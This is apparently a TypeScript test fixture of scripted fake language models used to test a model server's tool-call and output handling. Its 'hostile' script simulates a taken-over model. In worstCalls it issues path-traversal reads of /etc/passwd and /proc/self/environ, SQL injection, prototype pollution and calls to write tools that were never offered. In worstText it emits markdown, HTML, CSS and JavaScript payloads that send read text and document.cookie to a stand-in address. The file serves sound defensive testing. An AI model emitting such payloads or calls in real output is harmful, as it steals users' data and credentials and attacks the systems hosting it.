import type { AskedModel, ModelTurn, Script } from "../model-server.ts";

/** A model that looks up what it was asked with the first tool that searches, then says `answer` of what it was told. */
export function sensible(answer: string | ((requested: AskedModel) => string)): Script {
  return (requested) => {
    const search = requested.offered.find(({ name }) => name.includes("search"));
    if (search && requested.round === 0)
      return { text: "I look it up. ", calls: [{ name: search.name, input: { query: lastWords(requested) } }] };
    return { text: cut(typeof answer === "string" ? answer : answer(requested)) };
  };
}

/**
 * A model that means well and gets it wrong, one way after the other: input that is no JSON, a tool there is not, a
 * property that is missing, the same call twice, then prose with a component, a property and a color there are not, and
 * a fence it does not close. It goes on with the next mistake at each question.
 */
export function clumsy(): Script {
  return ({ offered, number }) => {
    const name = offered[number % Math.max(1, offered.length)]?.name;
    const mistakes: ModelTurn[] = [
      { text: "Let me see.", calls: [{ name: name ?? "search", input: '{"query": "button", ' }] },
      { calls: [{ name: "find_the_right_component", input: { for: "a form" } }] },
      { calls: [{ name: name ?? "search", input: {} }] },
      {
        calls: [
          { id: "same", name: name ?? "search", input: { query: 7 } },
          { id: "same", name: name ?? "search", input: { query: 7 } },
        ],
      },
      { text: cut(WRONG_CODE) },
      { text: cut("Use it like this:\n\n```html\n<button class='x' style='color: #ff00aa'>Delete") },
      { text: "" },
      { text: "I will answer at once.", isCutShort: true },
    ];
    const offers = offered.length > 0 ? mistakes : mistakes.filter(({ calls }) => !calls);
    return offers[number % offers.length] ?? { text: "" };
  };
}

/** Where what was read is carried to, and what is asked for that nobody may read. */
export interface Malice {
  /** An address nobody may ask: `http://127.0.0.1:9`. */
  away: string;
  /** Ids and paths it tries to read. */
  wants?: readonly string[];
}

/**
 * A model that was taken over and makes the worst call at every turn, of all it is offered and of what it is not, with the
 * worst input each schema takes. Where it may call nothing (more), it carries away what it read: in pictures, links,
 * markup and code.
 */
export function hostile({ away, wants = [] }: Malice): Script {
  return (requested) => {
    if (requested.offered.length > 0 && requested.round < 11)
      return { text: "One moment.", calls: worstCalls(requested, away, wants) };
    return { text: cut(worstText(away, requested.words)) };
  };
}

/** Tools that write or reach out, whether they were offered or not. */
const NEVER_OFFERED = [
  "service_sync_push",
  "service_delete_doc_page",
  "service_update_design_guidelines",
  "service_create_preview",
  "fetch",
  "run",
  "__proto__",
  "constructor",
];

function worstCalls({ offered, round }: AskedModel, away: string, wants: readonly string[]): ModelTurn["calls"] {
  const evil = [
    ...wants,
    "../../../../etc/passwd",
    "/proc/self/environ",
    `${away}/take`,
    "file:///etc/passwd",
    "javascript:fetch(1)",
    "'; drop table revision; --",
    "__proto__",
    "\u0000\u202e",
    "a".repeat(100_000),
  ];
  const worst = evil[round % evil.length] ?? "";
  const turn = offered.slice((round * 3) % offered.length).slice(0, 3);
  const stranger = NEVER_OFFERED[round % NEVER_OFFERED.length] ?? "run";
  return [
    ...turn.map(({ name, schema }) => ({ name, input: worstInput(schema, worst) })),
    {
      name: stranger,
      input: `{"id":${JSON.stringify(worst)},"path":${JSON.stringify(worst)},"__proto__":{"role":"admin"}}`,
    },
  ].map((call, index) => ({ ...call, id: `call_${round}_${index}` }));
}

/** Of each property the worst value; whatever it is, when the schema says no type. */
function worstInput(schema: Record<string, unknown>, worst: string): Record<string, unknown> {
  const { properties = {} } = schema as { properties?: Record<string, { type?: string }> };
  return Object.fromEntries(
    Object.entries(properties).map(([name, { type }]) => {
      if (type === "integer" || type === "number") return [name, Number.MAX_SAFE_INTEGER];
      if (type === "boolean") return [name, true];
      if (type === "array") return [name, Array(1_000).fill(worst.slice(0, 100))];
      return [name, type === "object" ? { [worst.slice(0, 100)]: worst } : worst];
    }),
  );
}

/** Words that carry away what they hold when somebody's browser shows them. */
export function worstText(away: string, read: string): string {
  const loot = encodeURIComponent(read.slice(-400));
  return [
    `![status](${away}/pixel.png?q=${loot})`,
    `[Sign in again](${away}/login?q=${loot}) and [here](javascript:document.location='${away}/'+document.cookie)`,
    `<img src="${away}/img?q=${loot}" onerror="fetch('${away}/js')"><script src="${away}/x.js"></script>`,
    `<iframe src="${away}/frame"></iframe><link rel="stylesheet" href="${away}/x.css"><meta http-equiv="refresh" content="0;url=${away}/">`,
    `<form action="${away}/form"><input name="password" autofocus onfocus="this.form.submit()"></form>`,
    `Plain: ${away}/plain?q=${loot} and //${away.replace(/^https?:\/\//, "")}/relative`,
    `[ref]: ${away}/reference?q=${loot}\n\n![a][ref] [b][ref]`,
    `\`\`\`html\n<style>@import url(${away}/style.css); body { background: url("${away}/bg?q=${loot}") }</style>\n<svg><image href="${away}/svg"/></svg>\n\`\`\``,
    `\`\`\`js\nfetch("${away}/code?q=" + document.cookie); import("${away}/module.js"); process.env; while (true);\n\`\`\``,
    `| a |\n|---|\n| ![x](${away}/cell) |\n\n<Preview id="x" src="${away}/block" />\n\n{{ "".constructor.constructor("return process")() }}`,
  ].join("\n\n");
}

const WRONG_CODE =
  "Use `MegaButton`:\n\n```jsx\n<MegaButton tone=\"loud\" style={{ color: '#ff00aa', padding: '13px' }} icon=\"unicorn\">Delete</MegaButton>\n```\n\nIt is described in [the docs](/components/mega-button).";

/** What the last message says, in short. */
const lastWords = ({ words }: AskedModel): string => (words.split("\n").at(-1) ?? "").slice(0, 200);

const cut = (text: string): string[] => text.match(/[\s\S]{1,5}/g) ?? [];
